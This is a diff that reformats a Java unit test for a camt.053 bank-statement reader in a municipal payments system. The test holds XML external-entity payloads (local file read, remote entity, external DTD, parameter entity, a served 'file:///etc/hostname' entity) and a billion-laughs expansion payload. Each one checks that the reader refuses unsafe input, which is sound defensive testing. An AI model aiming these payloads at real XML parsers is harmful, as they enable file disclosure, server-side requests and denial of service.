@@ -3,10 +3,10 @@ package eu.rathaus.payments.infrastructure;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import com.sun.net.httpserver.HttpServer;
 import eu.rathaus.payments.domain.BankEntry;
 import eu.rathaus.payments.domain.BankStatement;
 import eu.rathaus.payments.domain.StatementRefused;
-import com.sun.net.httpserver.HttpServer;
 import eu.rathaus.payments.domain.StatementRefused.Reason;
 import java.io.IOException;
 import java.io.InputStream;
@@ -25,7 +25,8 @@ import org.junit.jupiter.api.io.TempDir;
 class Camt053ReaderTest {
 
   private static byte[] sample(String name) throws IOException {
-    try (InputStream in = Camt053ReaderTest.class.getResourceAsStream("/payments/camt053/" + name)) {
+    try (InputStream in =
+        Camt053ReaderTest.class.getResourceAsStream("/payments/camt053/" + name)) {
       return in.readAllBytes();
     }
   }
@@ -54,7 +55,8 @@ class Camt053ReaderTest {
     assertThat(exact.debtorIban()).isEqualTo("DE89370400440532013000");
 
     assertThat(s.entries().get(1).creditorReference()).isNull();
-    assertThat(s.entries().get(1).remittanceText()).isEqualTo("Kassenzeichen RF33MUS2026000102 Anwohnerparken");
+    assertThat(s.entries().get(1).remittanceText())
+        .isEqualTo("Kassenzeichen RF33MUS2026000102 Anwohnerparken");
     assertThat(s.entries().get(3).amountCents()).isEqualTo(1250);
 
     BankEntry debit = s.entries().get(4);
@@ -76,12 +78,15 @@ class Camt053ReaderTest {
 
     assertThat(s.messageType()).isEqualTo("camt.053.001.08");
     assertThat(s.statementId()).isEqualTo("STMT-2026-11-27-202051");
-    assertThat(s.entries()).singleElement().satisfies(e -> {
-      assertThat(e.amountCents()).isEqualTo(3000);
-      assertThat(e.creditorReference()).isEqualTo("RF22MUS2026000106");
-      assertThat(e.debtorName()).isEqualTo("Erika Mustermann");
-      assertThat(e.debtorIban()).isEqualTo("DE89370400440532013000");
-    });
+    assertThat(s.entries())
+        .singleElement()
+        .satisfies(
+            e -> {
+              assertThat(e.amountCents()).isEqualTo(3000);
+              assertThat(e.creditorReference()).isEqualTo("RF22MUS2026000106");
+              assertThat(e.debtorName()).isEqualTo("Erika Mustermann");
+              assertThat(e.debtorIban()).isEqualTo("DE89370400440532013000");
+            });
   }
 
   @Test
@@ -90,31 +95,48 @@ class Camt053ReaderTest {
     Files.writeString(secret, "top secret");
     // A local HTTP server stands in for an attacker's host: it must never be asked for anything.
     AtomicInteger requests = new AtomicInteger();
-    HttpServer attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
-    attacker.createContext("/", exchange -> {
-      requests.incrementAndGet();
-      byte[] body = "<!ENTITY leak SYSTEM 'file:///etc/hostname'>".getBytes(StandardCharsets.UTF_8);
-      exchange.sendResponseHeaders(200, body.length);
-      exchange.getResponseBody().write(body);
-      exchange.close();
-    });
+    HttpServer attacker =
+        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+    attacker.createContext(
+        "/",
+        exchange -> {
+          requests.incrementAndGet();
+          byte[] body =
+              "<!ENTITY leak SYSTEM 'file:///etc/hostname'>".getBytes(StandardCharsets.UTF_8);
+          exchange.sendResponseHeaders(200, body.length);
+          exchange.getResponseBody().write(body);
+          exchange.close();
+        });
     attacker.start();
     try {
       String host = "http://127.0.0.1:" + attacker.getAddress().getPort();
-      String fileEntity = "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>\n"
-          + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId>"
-          + "</GrpHdr></BkToCstmrStmt></Document>";
-      String urlEntity = "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY remote SYSTEM \"" + host + "/entity\">]>\n"
-          + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\">&remote;</Document>";
-      String externalDtd = "<?xml version=\"1.0\"?>\n<!DOCTYPE Document SYSTEM \"" + host + "/evil.dtd\">\n"
-          + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"/>";
-      String parameterEntity = "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY % p SYSTEM \"" + host + "/p\"> %p;]>\n"
-          + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"/>";
+      String fileEntity =
+          "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM \""
+              + secret.toUri()
+              + "\">]>\n"
+              + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId>"
+              + "</GrpHdr></BkToCstmrStmt></Document>";
+      String urlEntity =
+          "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY remote SYSTEM \""
+              + host
+              + "/entity\">]>\n"
+              + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\">&remote;</Document>";
+      String externalDtd =
+          "<?xml version=\"1.0\"?>\n<!DOCTYPE Document SYSTEM \""
+              + host
+              + "/evil.dtd\">\n"
+              + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"/>";
+      String parameterEntity =
+          "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY % p SYSTEM \""
+              + host
+              + "/p\"> %p;]>\n"
+              + "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"/>";
 
       for (String xml : List.of(fileEntity, urlEntity, externalDtd, parameterEntity)) {
         assertThatThrownBy(() -> Camt053Reader.read(xml.getBytes(StandardCharsets.UTF_8)))
             .isInstanceOf(StatementRefused.class)
-            .satisfies(e -> assertThat(((StatementRefused) e).reason()).isEqualTo(Reason.UNSAFE_XML))
+            .satisfies(
+                e -> assertThat(((StatementRefused) e).reason()).isEqualTo(Reason.UNSAFE_XML))
             .hasMessageNotContaining("top secret");
       }
       assertThat(requests).as("requests that reached the attacker's host").hasValue(0);
@@ -125,13 +147,15 @@ class Camt053ReaderTest {
 
   @Test
   void refusesABillionLaughsWithoutExpandingIt() {
-    StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
+    StringBuilder xml =
+        new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
     xml.append("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">");
     for (int i = 2; i <= 9; i++) {
       xml.append("<!ENTITY lol").append(i).append(" \"");
       xml.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
     }
-    xml.append("]>\n<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><x>&lol9;</x></Document>");
+    xml.append(
+        "]>\n<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><x>&lol9;</x></Document>");
 
     assertThatThrownBy(() -> Camt053Reader.read(xml.toString().getBytes(StandardCharsets.UTF_8)))
         .isInstanceOf(StatementRefused.class)
@@ -140,13 +164,16 @@ class Camt053ReaderTest {
 
   @Test
   void refusesMalformedXml() {
-    assertRefused("<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><BkToCstmrStmt>", Reason.MALFORMED);
+    assertRefused(
+        "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.02\"><BkToCstmrStmt>",
+        Reason.MALFORMED);
     assertRefused("kein XML", Reason.MALFORMED);
   }
 
   @Test
   void refusesAnotherMessageType() {
-    assertRefused("<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03\"><CstmrCdtTrfInitn/></Document>",
+    assertRefused(
+        "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03\"><CstmrCdtTrfInitn/></Document>",
         Reason.WRONG_MESSAGE);
     assertRefused("<html><body>nope</body></html>", Reason.WRONG_MESSAGE);
   }
@@ -155,8 +182,9 @@ class Camt053ReaderTest {
   void refusesAnEmptyFileAndAStatementWithoutEntries() throws IOException {
     assertThatThrownBy(() -> Camt053Reader.read(new byte[0]))
         .satisfies(e -> assertThat(((StatementRefused) e).reason()).isEqualTo(Reason.EMPTY_FILE));
-    String noEntries = new String(sample("musterstadt-v08.xml"), StandardCharsets.UTF_8)
-        .replaceAll("(?s)<Ntry>.*</Ntry>", "");
+    String noEntries =
+        new String(sample("musterstadt-v08.xml"), StandardCharsets.UTF_8)
+            .replaceAll("(?s)<Ntry>.*</Ntry>", "");
     assertRefused(noEntries, Reason.NO_ENTRIES);
   }
 
